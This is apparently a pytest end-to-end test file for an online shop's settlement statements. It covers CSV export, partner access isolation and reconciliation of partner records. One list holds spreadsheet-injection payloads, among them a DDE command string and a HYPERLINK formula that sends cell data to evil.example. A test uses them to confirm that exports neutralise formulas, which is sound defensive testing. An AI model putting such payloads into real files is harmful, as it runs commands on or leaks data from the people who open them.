"""Statements as partners see them: their own channel's only, through every door;
the CSV export; reconciliation of the other side's records."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from tests.e2e.shop import Shop, open_shop
from tests.settlement_support import (
    Delivered,
    Partner,
    delivered_order,
    new_partner,
    refund,
    supplier_of,
)

GENERATE = """
mutation Generate($input: GenerateSettlementInput!) {
  generateSettlementStatement(input: $input) { statement { id } userErrors { code } }
}
"""
LIST = "query { settlementStatements { edges { node { code party } } } }"
LIST_OF = "query L($channel: String, $supplier: String) { settlementStatements(channel: $channel, supplier: $supplier) { edges { node { code } } } }"
NODE = "query N($id: ID!) { node(id: $id) { ... on SettlementStatement { code } } }"
RECONCILE = """
mutation Reconcile($id: ID!, $records: [ReconciliationRecordInput!]!) {
  reconcileStatement(statementId: $id, records: $records) {
    report { records matched missingOnTheirSide missingOnOurSide amountMismatches statusMismatches
             discrepancies { kind externalOrderNumber ourAmount { amount } theirAmount { amount } ourStatus theirStatus } }
    userErrors { field message code }
  }
}
"""
AMOUNT_RULE = 'an amount is a decimal string of ASCII digits with at most two decimal places, such as "9.90"'
REPORTS = "query R($id: ID!) { node(id: $id) { ... on SettlementStatement { reconciliations { records amountMismatches } } } }"

JUNE, JULY = datetime(2025, 6, 1, tzinfo=UTC), datetime(2025, 7, 1, tzinfo=UTC)


@dataclass
class Books:
    """Two partners' June statements and one supplier's, with the orders in them."""

    ours: Partner
    theirs: Partner
    statement: str  # ours
    other: str  # theirs
    supplier: str
    orders: list[Delivered]


@pytest.fixture(scope="module")
async def shop(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Shop]:
    async with open_shop(tmp_path_factory.mktemp("settlement-access"), expiry_interval_seconds=3600) as opened:
        opened.extra["ten"] = await opened.shelf.counter(100_000, price_fen=1000)
        opened.extra["supplier"] = await supplier_of(opened.db, "对账供应商", opened.extra["ten"])
        yield opened


async def statement_of(shop: Shop, party: str, code: str) -> str:
    variables = {"input": {"party": party, "code": code, "periodStart": JUNE.isoformat(), "periodEnd": JULY.isoformat()}}
    answer = await shop.gql(GENERATE, variables, key=shop.keys.admin)
    return answer["data"]["generateSettlementStatement"]["statement"]["id"]


@pytest.fixture
async def books(shop: Shop) -> Books:
    ours, theirs = await new_partner(shop.db, commission_bp=500), await new_partner(shop.db)
    ten = shop.extra["ten"]
    orders = [
        await delivered_order(shop.db, ours.channel, (ten, 1), at=JUNE + timedelta(days=1), external="TB-1"),
        await delivered_order(shop.db, ours.channel, (ten, 2), at=JUNE + timedelta(days=2), external="TB-2"),
        await delivered_order(shop.db, ours.channel, (ten, 3), at=JUNE + timedelta(days=3), external="TB-3"),
    ]
    await refund(shop.db, orders[2], at=JUNE + timedelta(days=4))
    await delivered_order(shop.db, theirs.channel, (ten, 1), at=JUNE + timedelta(days=1))
    return Books(
        ours, theirs, await statement_of(shop, "CHANNEL", ours.channel), await statement_of(shop, "CHANNEL", theirs.channel),
        await statement_of(shop, "SUPPLIER", shop.extra["supplier"]), orders,
    )


def client(shop: Shop) -> httpx.AsyncClient:
    return shop.client.http


def bearer(key: str | None) -> dict[str, str]:
    return {"authorization": f"Bearer {key}"} if key else {}


# --- export -------------------------------------------------------------------------------


async def test_the_csv_export_lists_every_line_with_money_as_decimals(shop: Shop, books: Books) -> None:
    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(shop.keys.admin))

    assert (response.status_code, response.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    sku = shop.extra["ten"].code
    first, second, third = (o.number for o in books.orders)
    assert response.text.splitlines() == [
        "order_number,external_order_number,sku,quantity,gross,cost,commission,margin,refunded,discount",
        f"{first},TB-1,{sku},1,10.00,9.00,0.50,0.50,0.00,0.00",
        f"{second},TB-2,{sku},2,20.00,18.00,1.00,1.00,0.00,0.00",
        f"{third},TB-3,{sku},3,30.00,27.00,1.50,1.50,30.00,0.00",
    ]


async def test_a_partners_export_leaves_out_supplier_cost_and_margin(shop: Shop, books: Books) -> None:
    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(books.ours.key))

    assert response.status_code == 200
    sku = shop.extra["ten"].code
    first, second, third = (o.number for o in books.orders)
    assert response.text.splitlines() == [
        "order_number,external_order_number,sku,quantity,gross,commission,refunded,discount",
        f"{first},TB-1,{sku},1,10.00,0.50,0.00,0.00",
        f"{second},TB-2,{sku},2,20.00,1.00,0.00,0.00",
        f"{third},TB-3,{sku},3,30.00,1.50,30.00,0.00",
    ]


FIGURES = """
query N($id: ID!) { node(id: $id) { ... on SettlementStatement {
  totals { gross { amount } supplierCost { amount } commission { amount } margin { amount } net { amount } }
  lines(first: 1) { edges { node { gross { amount } cost { amount } commission { amount } margin { amount } } } } } } }
"""


async def test_a_partner_reads_its_statement_without_supplier_cost_or_margin(shop: Shop, books: Books) -> None:
    partner = await shop.gql(FIGURES, {"id": books.statement}, key=books.ours.key)
    operator = await shop.gql(FIGURES, {"id": books.statement}, key=shop.keys.admin)

    assert partner == {"data": {"node": {
        "totals": {"gross": {"amount": "60.00"}, "supplierCost": None, "commission": {"amount": "3.00"}, "margin": None,
                   "net": {"amount": "28.50"}},
        "lines": {"edges": [{"node": {"gross": {"amount": "10.00"}, "cost": None, "commission": {"amount": "0.50"}, "margin": None}}]},
    }}}
    assert operator["data"]["node"]["totals"]["supplierCost"] == {"amount": "54.00"}
    assert operator["data"]["node"]["lines"]["edges"][0]["node"]["margin"] == {"amount": "0.50"}


# Order numbers a partner could send as its own (the idempotency key), each a formula to a spreadsheet.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


async def test_an_order_number_that_is_a_formula_opens_as_text(shop: Shop) -> None:
    partner, ten = await new_partner(shop.db), shop.extra["ten"]
    for day, external in enumerate(FORMULAS, start=1):
        await delivered_order(shop.db, partner.channel, (ten, 1), at=JUNE + timedelta(days=day), external=external)
    statement = await statement_of(shop, "CHANNEL", partner.channel)

    exports = [await client(shop).get(f"/settlement/{statement}.csv", headers=bearer(key)) for key in (shop.keys.admin, partner.key)]

    for export in exports:
        rows = list(csv.DictReader(io.StringIO(export.text)))
        assert [row["external_order_number"] for row in rows] == ["'" + external for external in FORMULAS]
        assert [row["gross"] for row in rows] == ["10.00"] * len(FORMULAS)  # amounts stay numbers


@pytest.mark.parametrize(
    ("caller", "status"),
    [("admin", 200), ("ours", 200), ("theirs", 404), ("web", 403), (None, 401), ("bogus", 401)],
)
async def test_the_export_is_authorised_like_the_statement(shop: Shop, books: Books, caller: str | None, status: int) -> None:
    key = {"admin": shop.keys.admin, "ours": books.ours.key, "theirs": books.theirs.key, "web": shop.keys.web,
           None: None, "bogus": "qy_0000000000_nope"}[caller]

    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(key))

    assert response.status_code == status


@pytest.mark.parametrize("path", ["/settlement/999999.csv", "/settlement/not-an-id.csv"])
async def test_an_unknown_statement_is_not_found(shop: Shop, path: str) -> None:
    assert (await client(shop).get(path, headers=bearer(shop.keys.admin))).status_code == 404


# --- partner isolation --------------------------------------------------------------------


async def test_a_partner_lists_only_its_own_channels_statements(shop: Shop, books: Books) -> None:
    answer = await shop.gql(LIST, key=books.ours.key)

    assert answer == {"data": {"settlementStatements": {"edges": [{"node": {"code": books.ours.channel, "party": "CHANNEL"}}]}}}


@pytest.mark.parametrize("variables", [{"channel": "{theirs}"}, {"supplier": "{supplier}"}])
async def test_a_partner_may_not_ask_for_another_partys_statements(shop: Shop, books: Books, variables: dict[str, str]) -> None:
    filled = {k: v.format(theirs=books.theirs.channel, supplier=shop.extra["supplier"]) for k, v in variables.items()}

    answer = await shop.gql(LIST_OF, filled, key=books.ours.key)

    assert (answer["data"], [e["extensions"]["code"] for e in answer["errors"]]) == (None, ["FORBIDDEN"])


@pytest.mark.parametrize("key", ["web", None])
async def test_storefronts_and_anonymous_callers_are_forbidden(shop: Shop, key: str | None) -> None:
    answer = await shop.gql(LIST, key=shop.keys.web if key else None)

    assert (answer["data"], [e["extensions"]["code"] for e in answer["errors"]]) == (None, ["FORBIDDEN"])


async def test_a_partner_cannot_read_export_or_reconcile_another_partys_statement(shop: Shop, books: Books) -> None:
    for foreign in (books.other, books.supplier):
        node = await shop.gql(NODE, {"id": foreign}, key=books.ours.key)
        export = await client(shop).get(f"/settlement/{foreign}.csv", headers=bearer(books.ours.key))
        upload = await client(shop).post(
            f"/settlement/{foreign}/reconcile", content=b"external_order_number,amount,status\n",
            headers={**bearer(books.ours.key), "content-type": "text/csv"},
        )
        reconciled = await shop.gql(RECONCILE, {"id": foreign, "records": []}, key=books.ours.key)

        assert node == {"data": {"node": None}}
        assert (export.status_code, upload.status_code) == (404, 404)
        assert reconciled["data"]["reconcileStatement"] == {
            "report": None, "userErrors": [{"field": "statementId", "message": "no such statement", "code": "NOT_FOUND"}],
        }
    assert (await shop.gql(REPORTS, {"id": books.other}, key=shop.keys.admin))["data"]["node"]["reconciliations"] == []


async def test_operators_list_supplier_statements(shop: Shop, books: Books) -> None:
    answer = await shop.gql(LIST_OF, {"supplier": shop.extra["supplier"]}, key=shop.keys.admin)

    assert [e["node"]["code"] for e in answer["data"]["settlementStatements"]["edges"]][0] == shop.extra["supplier"]


# --- reconciliation -----------------------------------------------------------------------


def record(number: str, amount: str, status: str = "DELIVERED") -> dict[str, str]:
    return {"externalOrderNumber": number, "amount": amount, "status": status}


async def test_reconciliation_reports_every_kind_of_difference(shop: Shop, books: Books) -> None:
    # Ours: TB-1 10.00 DELIVERED, TB-2 20.00 DELIVERED, TB-3 0.00 REFUNDED.
    records = [record("TB-2", "19.00"), record("TB-3", "0", "delivered"), record("TB-9", "5.00")]

    answer = await shop.gql(RECONCILE, {"id": books.statement, "records": records}, key=books.ours.key)

    assert answer == {"data": {"reconcileStatement": {"userErrors": [], "report": {
        "records": 3, "matched": 0, "missingOnTheirSide": 1, "missingOnOurSide": 1, "amountMismatches": 1, "statusMismatches": 1,
        "discrepancies": [
            {"kind": "MISSING_ON_THEIR_SIDE", "externalOrderNumber": "TB-1", "ourAmount": {"amount": "10.00"}, "theirAmount": None, "ourStatus": "DELIVERED", "theirStatus": None},
            {"kind": "AMOUNT_MISMATCH", "externalOrderNumber": "TB-2", "ourAmount": {"amount": "20.00"}, "theirAmount": {"amount": "19.00"}, "ourStatus": "DELIVERED", "theirStatus": "DELIVERED"},
            {"kind": "STATUS_MISMATCH", "externalOrderNumber": "TB-3", "ourAmount": {"amount": "0.00"}, "theirAmount": {"amount": "0.00"}, "ourStatus": "REFUNDED", "theirStatus": "DELIVERED"},
            {"kind": "MISSING_ON_OUR_SIDE", "externalOrderNumber": "TB-9", "ourAmount": None, "theirAmount": {"amount": "5.00"}, "ourStatus": None, "theirStatus": "DELIVERED"},
        ],
    }}}}


async def test_records_that_agree_match(shop: Shop, books: Books) -> None:
    records = [record("TB-1", "10.00"), record("TB-2", "20"), record("TB-3", "0.00", "REFUNDED")]

    answer = await shop.gql(RECONCILE, {"id": books.statement, "records": records}, key=shop.keys.admin)

    report = answer["data"]["reconcileStatement"]["report"]
    assert (report["records"], report["matched"], report["discrepancies"]) == (3, 3, [])


async def test_bad_records_are_refused_by_row_and_nothing_is_stored(shop: Shop, books: Books) -> None:
    records = [record("TB-1", "10.00"), record("TB-2", "2.005"), record("", "1"), record("TB-1", "10.00")]

    answer = await shop.gql(RECONCILE, {"id": books.statement, "records": records}, key=shop.keys.admin)

    assert answer["data"]["reconcileStatement"] == {"report": None, "userErrors": [
        {"field": "records.1.amount", "message": f"row 2: {AMOUNT_RULE}", "code": "INVALID_RECORD"},
        {"field": "records.2.externalOrderNumber", "message": "row 3: an order number is 1 to 128 characters", "code": "INVALID_RECORD"},
        {"field": "records.3.externalOrderNumber", "message": "row 4: order TB-1 is given twice", "code": "DUPLICATE_RECORD"},
    ]}
    assert (await shop.gql(REPORTS, {"id": books.statement}, key=shop.keys.admin))["data"]["node"]["reconciliations"] == []


async def test_a_partner_uploads_its_file_as_csv(shop: Shop, books: Books) -> None:
    body = "external_order_number,amount,status\nTB-1,10.00,DELIVERED\nTB-2,20.50,DELIVERED\nTB-3,0.00,REFUNDED\n"

    response = await client(shop).post(
        f"/settlement/{books.statement}/reconcile", content=body.encode(), headers={**bearer(books.ours.key), "content-type": "text/csv"},
    )

    assert response.status_code == 200
    assert {k: v for k, v in response.json().items() if k != "id"} == {
        "records": 3, "matched": 2, "missingOnTheirSide": 0, "missingOnOurSide": 0, "amountMismatches": 1, "statusMismatches": 0,
    }
    report = await shop.gql("query R($id: ID!) { reconciliationReport(id: $id) { records amountMismatches } }", {"id": response.json()["id"]}, key=books.ours.key)
    assert report == {"data": {"reconciliationReport": {"records": 3, "amountMismatches": 1}}}
    assert (await shop.gql("query R($id: ID!) { reconciliationReport(id: $id) { records } }", {"id": response.json()["id"]}, key=books.theirs.key)) == {
        "data": {"reconciliationReport": None}}


@pytest.mark.parametrize(
    ("body", "errors"),
    [
        pytest.param("order,amount\nTB-1,10.00\n", [{"row": 0, "field": "header", "message": "the first line is the header external_order_number,amount,status", "code": "INVALID_HEADER"}], id="header"),
        pytest.param("external_order_number,amount,status\nTB-1,10.00\nTB-2,x,DELIVERED\n", [
            {"row": 1, "field": "row", "message": "row 1: three fields expected, found 2", "code": "INVALID_RECORD"},
            {"row": 2, "field": "amount", "message": f"row 2: {AMOUNT_RULE}", "code": "INVALID_RECORD"},
        ], id="rows"),
    ],
)
async def test_a_malformed_file_stores_nothing(shop: Shop, books: Books, body: str, errors: list[dict[str, Any]]) -> None:
    response = await client(shop).post(
        f"/settlement/{books.statement}/reconcile", content=body.encode(), headers={**bearer(shop.keys.admin), "content-type": "text/csv"},
    )

    assert (response.status_code, response.json()["errors"]) == (422, errors)
    assert (await shop.gql(REPORTS, {"id": books.statement}, key=shop.keys.admin))["data"]["node"]["reconciliations"] == []


async def test_an_upload_must_be_csv_and_bounded(shop: Shop, books: Books) -> None:
    url = f"/settlement/{books.statement}/reconcile"
    json_body = await client(shop).post(url, json={"records": []}, headers=bearer(shop.keys.admin))
    huge = await client(shop).post(url, content=b"x" * (1024 * 1024 + 1), headers={**bearer(shop.keys.admin), "content-type": "text/csv"})

    assert (json_body.status_code, huge.status_code) == (415, 413)


async def test_the_dashboard_counts_statements_whose_records_disagree(shop: Shop, books: Books) -> None:
    from services.analytics.dashboard import snapshot

    async with shop.db.sessions() as session:
        before = (await snapshot(session, datetime.now(UTC))).figures
    await shop.gql(RECONCILE, {"id": books.statement, "records": [record("TB-1", "11.00")]}, key=shop.keys.admin)
    async with shop.db.sessions() as session:
        after = (await snapshot(session, datetime.now(UTC))).figures

    # TB-1 differs in amount; TB-2 and TB-3 are missing on their side.
    assert (after.statements_with_discrepancies - before.statements_with_discrepancies,
            after.reconciliation_discrepancies - before.reconciliation_discrepancies) == (1, 3)
